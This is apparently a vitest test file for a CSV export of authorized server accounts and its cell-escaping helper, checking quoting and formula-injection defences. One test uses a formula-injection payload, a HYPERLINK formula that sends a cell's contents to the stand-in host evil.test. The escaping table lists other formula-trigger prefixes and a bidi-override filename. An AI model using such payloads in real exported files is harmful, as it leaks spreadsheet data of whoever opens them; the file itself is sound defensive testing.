import { describe, expect, it } from 'vitest';
import type { AuthorizedAccount } from '../../contract/servers.ts';
import { csvCell } from '../../contract/csv-text.ts';
import { renderServersCsv } from './servers-csv.ts';

const account = (overrides: Partial<AuthorizedAccount>): AuthorizedAccount => ({
  id: '0b8f3c1e-5d2a-4f6b-9c7d-1e2f3a4b5c6d',
  sid: 'S-1-5-21-1-2-3-1105',
  name: 'CORP\\Exchange Servers',
  role: 'exchange',
  kind: 'group',
  addedBy: 'CORP\\alice',
  addedAt: '2026-01-02T03:04:05.000Z',
  ...overrides,
});

describe('renderServersCsv', () => {
  it('writes the header and one CRLF-terminated row per entry, with the roles spelled out', () => {
    const csv = renderServersCsv([
      account({}),
      account({ role: 'sharepoint', kind: 'user', name: 'CORP\\svc-sp' }),
      account({ role: 'fci', kind: 'computer', name: 'CORP\\FS01$' }),
    ]);
    expect(csv).toBe(
      'Account,Role,Object type,SID,Added by,Added on\r\n' +
        'CORP\\Exchange Servers,Exchange Server,Group,S-1-5-21-1-2-3-1105,CORP\\alice,2026-01-02T03:04:05.000Z\r\n' +
        'CORP\\svc-sp,SharePoint Server,User,S-1-5-21-1-2-3-1105,CORP\\alice,2026-01-02T03:04:05.000Z\r\n' +
        'CORP\\FS01$,File server using FCI,Computer,S-1-5-21-1-2-3-1105,CORP\\alice,2026-01-02T03:04:05.000Z\r\n',
    );
  });

  it('writes only the header for an empty list', () => {
    expect(renderServersCsv([])).toBe('Account,Role,Object type,SID,Added by,Added on\r\n');
  });

  it('keeps a hostile account name inert in its own cell', () => {
    const csv = renderServersCsv([account({ name: '=HYPERLINK("http://evil.test/?"&A1,"Click")', addedBy: '@SUM(1+1)' })]);
    expect(csv.split('\r\n')[1]).toBe(
      `"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")",Exchange Server,Group,S-1-5-21-1-2-3-1105,'@SUM(1+1),2026-01-02T03:04:05.000Z`,
    );
  });
});

describe('csvCell', () => {
  it.each([
    ['plain text', 'CORP\\EXCH01$', 'CORP\\EXCH01$'],
    ['a comma', 'Smith, John (Ops)', '"Smith, John (Ops)"'],
    ['quotes', 'Quote"Less<More>', '"Quote""Less<More>"'],
    ['a line feed', 'two\nlines', '"two\nlines"'],
    ['a CRLF', 'two\r\nlines', '"two\r\nlines"'],
    ['a leading =', '=1+1', "'=1+1"],
    ['a leading +', '+1', "'+1"],
    ['a leading -', '-2+3', "'-2+3"],
    ['a leading @', '@SUM(A1)', "'@SUM(A1)"],
    ['a leading tab', '\t=1', "'\t=1"],
    ['a leading CR', '\r=1', `"'\r=1"`],
    ['spaces before a formula', '  =1', "'  =1"],
    ['a formula after a comma', '=A1,B2', `"'=A1,B2"`],
    ['an equals sign inside', 'Equals=Sign', 'Equals=Sign'],
    ['unicode', 'Zoë Ångström-Łukasiewicz', 'Zoë Ångström-Łukasiewicz'],
    ['a bidi override', 'abc\u202Egpj.exe', 'abc\u202Egpj.exe'],
    ['an emoji', 'Server 🚀', 'Server 🚀'],
    ['a trailing space', 'name ', '"name "'],
    ['an empty value', '', ''],
  ])('handles %s', (_label, value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });
});
